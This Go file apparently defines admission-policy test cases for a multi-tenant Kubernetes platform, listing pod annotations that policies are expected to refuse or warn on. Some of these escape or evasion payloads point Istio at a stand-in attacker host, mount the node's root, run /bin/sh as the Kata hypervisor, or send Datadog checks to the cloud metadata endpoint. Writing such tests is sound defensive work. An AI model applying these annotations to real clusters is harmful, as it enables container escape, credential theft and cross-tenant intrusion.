	refused("inject-image-by-istio", "have Istio's injector run an image of any registry", "sidecar.istio.io/proxyImage", "evil.example.net/proxy")
	refused("follow-other-control-plane", "have Istio's sidecar follow any control plane", "proxy.istio.io/config", "discoveryAddress: evil.example.net:15012")
	refused("follow-other-control-plane-by-escapes", "have Istio's sidecar follow any control plane, with escapes", "proxy.istio.io/config", `{"discovery\u0041ddress": "evil.example.net:15012"}`)
	refused("follow-other-control-plane-by-key", "have Istio's sidecar follow any control plane by an explicit key of YAML", "proxy.istio.io/config", "? discoveryAddress\n: evil.example.net:15012")
	refused("inject-device", "have the container runtime inject a device", "cdi.k8s.io/all", "nvidia.com/gpu=all")
	refused("inject-device-by-name", "have the container runtime inject a device, under the name of an add-on", "cdi.k8s.io/external-dns", "nvidia.com/gpu=all")
	refused("inject-device-by-bare-key", "have a plugin of the container runtime inject a device, by a key without a slash", "devices.nri.io", `- path: /dev/sda`)
	refused("mount-node-by-bare-key", "have a plugin of the container runtime mount the node's root, by a key without a slash", "mounts.noderesource.dev", `- {source: /, destination: /node, type: bind}`)
	refused("mount-node-by-plugin", "have a plugin of the container runtime mount the node's root", "mounts.noderesource.dev/container.app", `- {source: /, destination: /node, type: bind}`)
	refused("set-priority-of-disks", "have a plugin of the container runtime give a pod priority over others at the disks", "io-priority.noderesource.dev", "{class: rt}")
	refused("take-cache-by-plugin", "have a plugin of the container runtime give a pod others' share of the cache", "l3CacheSchema.rdt.noderesource.dev/container.app", "L3:0=ffff")
	refused("inject-device-by-nvidia", "have Nvidia's container runtime inject a device", "nvidia.cdi.k8s.io/gpu", "nvidia.com/gpu=all")
	refused("join-group-of-aci", "put a pod into any group of Cisco's network", "opflex.cisco.com/endpoint-group", `{"tenant":"other","app-profile":"a","name":"b"}`)
	refused("take-interface-by-danm", "have DANM give a pod an interface of any network", "danm.io/interfaces", `[{"clusterNetwork":"other","ip":"10.0.0.1"}]`)
	refused("read-node-by-filebeat-for-container", "have Filebeat read files of the node, for one container", "co.elastic.logs.app/raw", `[{"type":"log","paths":["/var/log/*"]}]`)
	refused("inject-device-by-plugin", "have a plugin of the container runtime inject a device", "devices.nri.io/container.app", `- path: /dev/sda`)
	refused("run-another-hypervisor", "have Kata Containers run another program of the node", "io.katacontainers.config.hypervisor.path", "/bin/sh")
	refused("open-sandbox", "have gVisor open its sandbox", "dev.gvisor.flag.directfs", "true")
	refused("hold-backups", "have Velero wait for a hook for a day", "pre.hook.backup.velero.io/timeout", "24h")
	refused("read-node-by-filebeat", "have Filebeat read files of the node", "co.elastic.logs/raw", `[{"type":"log","paths":["/var/log/*"]}]`)
	if !slices.Contains(s.attacker.Allowances.Annotations, "ad.datadoghq.com/") {
		refused("read-journal-by-datadog", "have Datadog's agent read the node's journal", "ad.datadoghq.com/app.logs", `[{"type":"journald","source":"multi_line"}]`)
		refused("read-node-by-datadog", "have Datadog's agent read files of the node", "ad.datadoghq.com/app.logs", `[{"source":"app","path":"/var/log/pods/*/*/*.log"}]`)
		refused("check-anything-by-datadog-of-old", "have Datadog's agent call any address by an older annotation", "service-discovery.datadoghq.com/app.instances", `[{"url":"http://169.254.169.254/"}]`)
		refused("check-anything-by-datadog", "have Datadog's agent call any address", "ad.datadoghq.com/app.checks", `{"http_check":{"instances":[{"url":"http://169.254.169.254/"}]}}`)
	} else {
		may("check-own-by-datadog-as-allowed", "have Datadog's agent check a pod, as the tenant may", "ad.datadoghq.com/app.checks", `{"redisdb":{"instances":[{"host":"%%host%%"}]}}`)
	}
	all = append(all, attack.NewUpdate("assume-any-role-later", "have kube2iam give an existing pod any role of the nodes", attack.ByPolicy(admissionpolicy.PodsPolicy, PodAnnotationsRule),
		s.makePod("assume-later"), func(p *corev1.Pod) { p.Annotations = annotate(role, "admin") }))
	binding := annotate("aadpodidbinding", "admin")
	all = append(all, attack.NewCreate("assume-any-identity", "have aad-pod-identity give a pod any identity of the nodes", attack.ByPolicy(admissionpolicy.PodsPolicy, PodMarksRule),
		s.makePod("assume-any-identity", func(p *corev1.Pod) { p.Labels = binding })))
	inTemplate("assume-any-identity-in-template", "have aad-pod-identity give the pods of a Deployment any identity of the nodes", PodMarksRule, func(t *corev1.PodTemplateSpec) { t.Labels["aadpodidbinding"] = "admin" })
	inTemplate("assume-any-role-in-template", "have kube2iam give the pods of a Deployment any role of the nodes", PodAnnotationsRule, func(t *corev1.PodTemplateSpec) { t.Annotations = annotate(role, "admin") })
	inTemplate("take-other-address-in-template", "have Calico give the pods of a Deployment another pod's address", PodAnnotationsRule, func(t *corev1.PodTemplateSpec) {
		t.Annotations = map[string]string{"cni.projectcalico.org/ipAddrsNoIpam": `["10.244.1.7"]`, "cni.projectcalico.org/hwAddr": "02:00:00:00:00:01"}
	})
	inTemplate("attach-other-network-in-template", "attach the pods of a Deployment to another tenant's network", PodAnnotationsRule, func(t *corev1.PodTemplateSpec) { t.Annotations = annotate(networks, s.other+"/net1") })
	const safe = "cluster-autoscaler.kubernetes.io/safe-to-evict"
	if *s.attacker.Allowances.DoNotDisrupt {
		may("hold-node-by-autoscaler-as-allowed", "keep a node from being scaled down, as the tenant may", safe, "false")
	} else {
		by("hold-node-by-autoscaler", "keep a node from being scaled down", DoNotDisruptRule, safe, "false")
		by("hold-node-by-descheduler", "keep a pod from being moved", DoNotDisruptRule, "descheduler.alpha.kubernetes.io/prefer-no-eviction", "true")
	}
	may("let-node-go", "let a node be scaled down", safe, "true")
	may("describe-logs-to-datadog", "configure how Datadog's agent reads a pod's logs", "ad.datadoghq.com/app.logs",
		`[{"source":"java","service":"app","log_processing_rules":[{"type":"multi_line","name":"start","pattern":"\\d{4}-"}]}]`)
	may("leave-logs-of-container-out", "have Filebeat leave the logs of a container out", "co.elastic.logs.sidecar/enabled", "false")
	may("be-scraped", "be scraped by Prometheus", "prometheus.io/scrape", "true")
	may("attach-own-network", "attach a pod to networks of one's own", networks, "net1, "+s.own+"/net2@eth2")
	may("attach-own-network-by-json", "attach a pod to networks of one's own by JSON", networks, `[{"name": "net1"}, {"name":"net2","namespace":"`+s.own+`","interface":"eth2"}]`)
	may("use-role-of-vault", "have Vault's agent inject a secret", "vault.hashicorp.com/role", "payments")
	may("join-mesh", "have Istio inject its sidecar", "sidecar.istio.io/inject", "true")
	may("hold-until-mesh-is-there", "start after Istio's sidecar", "proxy.istio.io/config", "holdApplicationUntilProxyStarts: true\ntracing: {sampling: 10.0}\n\"concurrency\": 2\n")
	if platform := s.platform.Network.PlatformNamespaces; len(platform) > 0 {
		may("use-vault-of-platform", "have Vault's agent ask a Vault of the platform", "vault.hashicorp.com/service", "http://vault."+platform[0]+".svc:8200")
	}
	may("note-a-build", "write a note of one's own, without a prefix", "build.url", "https://ci.example.org/1")
	return attack.WithReason("controllers of pods have the node's rights, and its network", nil, all...)
}

// buildUnwarnedAttacks carry an unknown annotation on each kind that add-ons read. No policy may warn.
func (s scene) buildUnwarnedAttacks() []attack.Attack {
	by := attack.ByWarning(UnknownAnnotationsPolicy, UnknownWarningRule)
	carry := func(o client.Object) client.Object {
		o.SetAnnotations(map[string]string{unknownAnnotation: "now"})
		return o
	}
	one := func(o client.Object) attack.Attack {
		kind := o.GetObjectKind().GroupVersionKind().Kind
		return attack.NewCreate("carry-annotation-unwarned-on-"+strings.ToLower(kind), "have an unknown annotation on a "+kind+", without a warning", by, carry(o))
	}
	meta := s.makeMeta("carry-unwarned")
	all := []attack.Attack{
		one(&corev1.Service{TypeMeta: makeCoreMeta("Service"), ObjectMeta: meta, Spec: corev1.ServiceSpec{Type: corev1.ServiceTypeClusterIP, Ports: []corev1.ServicePort{{Port: 80}}}}),
		one(&corev1.ConfigMap{TypeMeta: makeCoreMeta("ConfigMap"), ObjectMeta: meta}),
		one(s.makeVolumeClaim("carry-unwarned")),
	}
	if s.host == "" {
		return all
	}
	for _, kind := range []string{"HTTPRoute", "GRPCRoute", "TLSRoute"} {
		all = append(all, one(s.makeRoute(kind, "carry-unwarned", s.host)))
	}
	return append(all, one(s.makeGateway("carry-unwarned", s.host)),
		attack.NewUpdate("carry-annotation-unwarned-on-ingress-later", "add an unknown annotation to an Ingress, without a warning", by,
			s.makeIngress("carry-unwarned-later"), func(i *networkingv1.Ingress) { carry(i) }),
		attack.NewUpdate("carry-annotation-unwarned-on-gateway-later", "add an unknown annotation to a Gateway, without a warning", by,
			s.makeGateway("carry-unwarned-later", s.host), func(u *unstructured.Unstructured) { carry(u) }))
}

func (s scene) buildUnknownAnnotationAttacks() []attack.Attack {
	pod := func(name string) *corev1.Pod {
		return s.makePod(name, func(p *corev1.Pod) { p.Annotations = map[string]string{unknownAnnotation: "now"} })
	}
	template := func(name string) client.Object {
		return s.makeDeployment(name, func(t *corev1.PodTemplateSpec) { t.Annotations = map[string]string{unknownAnnotation: "now"} })
	}
	ingress := func(name string) client.Object { return s.makeAnnotated(name, unknownAnnotation, "now") }
	secret := &corev1.Secret{TypeMeta: makeCoreMeta("Secret"), ObjectMeta: s.makeMeta("carry-unknown-later")}
	later := func(o *corev1.Secret) { o.Annotations = map[string]string{unknownAnnotation: "now"} }
	var all []attack.Attack
	switch s.attacker.Allowances.UnknownAnnotations {
	case v1alpha1.UnknownDeny:
		all = append(all,
			attack.NewCreate("carry-unknown-annotation", "have an unknown annotation", attack.ByPolicy(AnnotationsPolicy, UnknownAnnotationsRule), ingress("carry-unknown")),
			attack.NewCreate("carry-unknown-annotation-as-pod", "have an unknown annotation on a pod", attack.ByPolicy(admissionpolicy.PodsPolicy, PodAnnotationsRule), pod("carry-unknown")),
			attack.NewCreate("carry-unknown-domain-as-pod", "have an unknown domain as a key of an annotation on a pod", attack.ByPolicy(admissionpolicy.PodsPolicy, PodAnnotationsRule),
				s.makePod("carry-unknown-domain", func(p *corev1.Pod) { p.Annotations = map[string]string{"devices.croft-verify.dev": "now"} })),
			attack.NewCreate("carry-unknown-annotation-in-template", "have an unknown annotation on the pods of a Deployment", attack.ByWarning(admissionpolicy.PodTemplatesPolicy, PodAnnotationsRule), template("carry-unknown")))
	case v1alpha1.UnknownWarn:
		all = append(all, s.buildUnwarnedAttacks()...)
		all = append(all,
			attack.NewCreate("carry-annotation-unwarned", "have an unknown annotation, without a warning", attack.ByWarning(UnknownAnnotationsPolicy, UnknownWarningRule), ingress("carry-unwarned")),
			attack.NewUpdate("carry-annotation-unwarned-later", "add an unknown annotation, without a warning", attack.ByWarning(UnknownAnnotationsPolicy, UnknownWarningRule), secret, later),
			attack.NewCreate("carry-annotation-unwarned-in-template", "have an unknown annotation on the pods of a Deployment, without a warning",
				attack.ByWarning(admissionpolicy.PodTemplatesPolicy, UnknownWarningRule), template("carry-unwarned")),
			attack.NewCreate("carry-annotation-unwarned-on-pod", "have an unknown annotation on a pod, without a warning",
				attack.ByWarning(UnknownPodAnnotationsPolicy, UnknownWarningRule), pod("carry-unwarned")),
			attack.NewUpdate("carry-annotation-unwarned-on-pod-later", "add an unknown annotation to a pod, without a warning",
				attack.ByWarning(UnknownPodAnnotationsPolicy, UnknownWarningRule), s.makePod("carry-unwarned-later"),
				func(p *corev1.Pod) { p.Annotations = map[string]string{unknownAnnotation: "now"} }))
		for _, label := range ofTemplates {
			made := pod("carry-by-" + strings.NewReplacer(".", "-", "/", "-").Replace(label))
			made.Labels = map[string]string{label: "5d4f8c7b9"}
			all = append(all, attack.NewCreate(strings.TrimPrefix(made.Name, "croft-"), "have a controller create a pod from a template that caused a warning, marked by "+label, attack.Nobody, made))
		}
	case v1alpha1.UnknownAllow:
		// No policy warns.
	}
	if s.attacker.Allowances.UnknownAnnotations != v1alpha1.UnknownDeny {
		carried := attack.NewCreate("carry-unknown-annotation-as-allowed", "have an unknown annotation, as the tenant may", attack.Nobody, ingress("carry-as-allowed"))
		onPod := attack.NewCreate("carry-unknown-annotation-as-pod-as-allowed", "have an unknown annotation on a pod, as the tenant may", attack.Nobody, pod("carry-unknown"))
		carried.ExpectsWarning = s.attacker.Allowances.UnknownAnnotations == v1alpha1.UnknownWarn
		onPod.ExpectsWarning = carried.ExpectsWarning
		all = append(all, carried, onPod)
	}
	if s.host != "" {
		all = append(all, s.makeAnnotationMirrors([4]string{"carry-own-annotation", "have an annotation of a domain of one's own", s.host + "/owner", "team"})...)
	}
	return attack.WithReason("a list of harmful annotations misses those of the next add-on", nil, all...)
}
